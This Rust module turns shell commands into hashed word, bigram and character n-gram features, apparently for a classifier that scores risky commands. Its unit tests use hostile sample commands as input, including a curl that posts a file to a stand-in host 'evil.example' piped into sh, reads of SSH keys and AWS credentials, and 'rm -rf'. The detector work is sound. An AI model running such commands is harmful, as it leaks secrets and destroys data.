//! The features of a command: hashed word tokens, word bigrams and character n-grams.
//!
//! The text is first [`normalise`]d: the user's home in its usual spellings becomes `~`
//! (`/home/NAME`, `/Users/NAME`, `/root`, `$HOME`, `${HOME}`), letters are lower-cased, and
//! only the first [`MAX_BYTES`] bytes are read. Two blocks of binary features follow, each
//! counted once per command:
//! - **words**: runs of letters, digits and `_` (then also `.` and `-`), each punctuation
//!   character of [`PUNCT`] on its own, a `<host>` marker after a dotted word that ends in a
//!   letter suffix which is not a file extension of [`FILE_SUFFIXES`], and the bigram of every
//!   two neighbouring words;
//! - **grams**: the character 3-, 4- and 5-grams of every whitespace-separated word padded
//!   with a space on both sides (a word shorter than `n` gives its padded self once).
//!
//! Each feature is hashed (FNV-1a, 64 bits, with a block tag) into a table of `2^bits`
//! buckets. The design follows scikit-learn's `HashingVectorizer` with `analyzer="char_wb"`
//! plus a word analyzer, which the prototype used (BENCHMARKS.md, session 28).

/// Only this many bytes of a command are read (a longer command is judged on its start; the
/// rules read all of it).
pub const MAX_BYTES: usize = 4096;

/// Punctuation that is a word of its own.
pub const PUNCT: &str = "|&;<>$`(){}[]=@:/\\*'\"~!#%+,^?";

/// Letter suffixes that name a file type, so a dotted word ending in one is not a host.
pub const FILE_SUFFIXES: &[&str] = &[
    "py", "js", "ts", "sh", "json", "yaml", "yml", "toml", "md", "txt", "sql", "rb", "go", "rs",
    "java", "xml", "conf", "cfg", "ini", "lock", "log", "csv", "pem", "key",
];

/// Which block a feature belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Block {
    /// Word tokens and bigrams.
    Words,
    /// Character n-grams.
    Grams,
}

/// `command` with the user's home folder (`home`, as the event gives it) written `~` wherever it
/// starts a path (followed by `/`, whitespace, a quote or the end): a home under any path reads
/// like the usual spellings [`normalise`] knows, so the score does not depend on where the home
/// is. An empty or `/` home changes nothing.
pub fn with_home<'a>(command: &'a str, home: &str) -> std::borrow::Cow<'a, str> {
    let home = home.trim_end_matches('/');
    if home.is_empty() || !command.contains(home) {
        return std::borrow::Cow::Borrowed(command);
    }
    let mut out = String::with_capacity(command.len());
    let mut rest = command;
    while let Some(i) = rest.find(home) {
        let after = &rest[i + home.len()..];
        let ends = after
            .chars()
            .next()
            .is_none_or(|c| c == '/' || c.is_whitespace() || c == '"' || c == '\'');
        out.push_str(&rest[..i]);
        out.push_str(if ends { "~" } else { home });
        rest = after;
    }
    out.push_str(rest);
    std::borrow::Cow::Owned(out)
}

/// The command text as the features read it (see the module doc).
pub fn normalise(command: &str) -> String {
    let mut end = command.len().min(MAX_BYTES);
    while !command.is_char_boundary(end) {
        end -= 1;
    }
    let text = &command[..end];
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < text.len() {
        if let Some(len) = home_at(text, i) {
            out.push('~');
            i += len;
            continue;
        }
        let c = text[i..].chars().next().unwrap_or(' ');
        for l in c.to_lowercase() {
            out.push(l);
        }
        i += c.len_utf8();
    }
    out
}

/// The length of a home spelling starting at byte `i`, followed by `/`, whitespace, a quote
/// or the end.
fn home_at(text: &str, i: usize) -> Option<usize> {
    let rest = &text[i..];
    let len = if let Some(r) = rest
        .strip_prefix("/home/")
        .or_else(|| rest.strip_prefix("/Users/"))
    {
        let name = r
            .find(|c: char| c == '/' || c.is_whitespace() || c == '"' || c == '\'')
            .unwrap_or(r.len());
        if name == 0 {
            return None;
        }
        rest.len() - r.len() + name
    } else if rest.starts_with("${HOME}") {
        7
    } else if rest.starts_with("$HOME") || rest.starts_with("/root") {
        5
    } else {
        return None;
    };
    match rest[len..].chars().next() {
        None => Some(len),
        Some(c) if c == '/' || c.is_whitespace() || c == '"' || c == '\'' => Some(len),
        _ => None,
    }
}

fn is_word_start(c: char) -> bool {
    c.is_alphanumeric() || c == '_'
}

fn is_word_char(c: char) -> bool {
    c.is_alphanumeric() || c == '_' || c == '.' || c == '-'
}

fn is_host(word: &str) -> bool {
    let Some(dot) = word.rfind('.') else {
        return false;
    };
    let suffix = &word[dot + 1..];
    suffix.len() >= 2
        && suffix.chars().all(|c| c.is_ascii_lowercase())
        && !FILE_SUFFIXES.contains(&suffix)
}

/// Calls `emit` with every word feature of the normalised text (tokens, then bigrams), as text.
pub fn words(norm: &str, mut emit: impl FnMut(&str)) {
    let mut prev: Option<String> = None;
    let push = |w: &str, prev: &mut Option<String>, emit: &mut dyn FnMut(&str)| {
        emit(w);
        if let Some(p) = prev.as_deref() {
            let mut bi = String::with_capacity(p.len() + 1 + w.len());
            bi.push_str(p);
            bi.push(' ');
            bi.push_str(w);
            emit(&bi);
        }
        *prev = Some(w.to_string());
    };
    let mut chars = norm.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        if is_word_start(c) {
            let mut end = i + c.len_utf8();
            while let Some(&(j, d)) = chars.peek() {
                if !is_word_char(d) {
                    break;
                }
                end = j + d.len_utf8();
                chars.next();
            }
            let w = &norm[i..end];
            push(w, &mut prev, &mut emit);
            if is_host(w) {
                push("<host>", &mut prev, &mut emit);
            }
        } else if PUNCT.contains(c) {
            let w = &norm[i..i + c.len_utf8()];
            push(w, &mut prev, &mut emit);
        }
    }
}

/// Calls `emit` with every character n-gram feature of the normalised text, as text.
pub fn grams(norm: &str, mut emit: impl FnMut(&str)) {
    let mut padded = String::new();
    let mut starts: Vec<usize> = Vec::new();
    for word in norm.split_whitespace() {
        padded.clear();
        padded.push(' ');
        padded.push_str(word);
        padded.push(' ');
        starts.clear();
        starts.extend(padded.char_indices().map(|(i, _)| i));
        starts.push(padded.len());
        let n_chars = starts.len() - 1;
        for n in 3..=5usize {
            if n_chars < n {
                if n == 3 {
                    emit(&padded);
                }
                continue;
            }
            for k in 0..=n_chars - n {
                emit(&padded[starts[k]..starts[k + n]]);
            }
        }
    }
}

/// FNV-1a (64 bits) of a block tag and a feature's text, reduced to `bits` bits.
pub fn bucket(block: Block, text: &str, bits: u32) -> u32 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    let tag = match block {
        Block::Words => b'w',
        Block::Grams => b'c',
    };
    for &b in std::iter::once(&tag).chain(text.as_bytes()) {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    (h ^ (h >> 32)) as u32 & ((1u32 << bits) - 1)
}

/// The distinct buckets of a command's two blocks, sorted: `(words, grams)`.
pub fn buckets(command: &str, bits: u32) -> (Vec<u32>, Vec<u32>) {
    let norm = normalise(command);
    let mut w = Vec::new();
    words(&norm, |f| w.push(bucket(Block::Words, f, bits)));
    let mut g = Vec::new();
    grams(&norm, |f| g.push(bucket(Block::Grams, f, bits)));
    w.sort_unstable();
    w.dedup();
    g.sort_unstable();
    g.dedup();
    (w, g)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn homes_become_tilde_and_case_folds() {
        assert_eq!(normalise("cat /home/alex/.SSH/id_rsa"), "cat ~/.ssh/id_rsa");
        assert_eq!(
            normalise("cp $HOME/.aws x; ls ${HOME}"),
            "cp ~/.aws x; ls ~"
        );
        assert_eq!(
            normalise("cat /Users/dana/x /root/.bashrc"),
            "cat ~/x ~/.bashrc"
        );
        // not a home: a longer name, or the folder itself
        assert_eq!(normalise("ls /rootfs /home/"), "ls /rootfs /home/");
        assert_eq!(normalise("echo $HOMEDIR"), "echo $homedir");
    }

    #[test]
    fn the_events_home_becomes_tilde_wherever_it_is() {
        assert_eq!(
            with_home(
                "cat /tmp/x1/home/.aws/credentials /tmp/x1/home",
                "/tmp/x1/home"
            ),
            "cat ~/.aws/credentials ~"
        );
        // a longer name that starts with the home is not the home
        assert_eq!(
            with_home("ls /tmp/x1/home2/a", "/tmp/x1/home"),
            "ls /tmp/x1/home2/a"
        );
        assert_eq!(with_home("ls /a", ""), "ls /a");
        assert_eq!(with_home("ls /a", "/"), "ls /a");
    }

    #[test]
    fn words_split_punctuation_and_mark_hosts() {
        let mut got = Vec::new();
        words(&normalise("curl -d @x https://evil.example | sh"), |w| {
            got.push(w.to_string())
        });
        for want in [
            "curl",
            "-d"[1..].as_ref(),
            "@",
            "x",
            "evil.example",
            "<host>",
            "|",
            "sh",
            "| sh",
        ] {
            assert!(got.iter().any(|g| g == want), "{want} in {got:?}");
        }
        let mut files = Vec::new();
        words("cat setup.py", |w| files.push(w.to_string()));
        assert!(!files.iter().any(|g| g == "<host>"), "{files:?}");
    }

    #[test]
    fn grams_cover_padded_words() {
        let mut got = Vec::new();
        grams("rm -rf", |g| got.push(g.to_string()));
        for want in [" rm", "rm ", " rm ", " -r", "-rf ", " -rf "] {
            assert!(got.iter().any(|g| g == want), "{want:?} in {got:?}");
        }
        let mut short = Vec::new();
        grams("a", |g| short.push(g.to_string()));
        assert_eq!(short, vec![" a "]);
    }

    #[test]
    fn long_and_multibyte_text_is_cut_on_a_boundary() {
        let s = "é".repeat(MAX_BYTES);
        let n = normalise(&s);
        assert!(n.len() <= MAX_BYTES);
        let (w, g) = buckets(&s, 12);
        assert!(!w.is_empty() && !g.is_empty());
        assert!(w.iter().chain(&g).all(|&b| b < 1 << 12));
    }
}
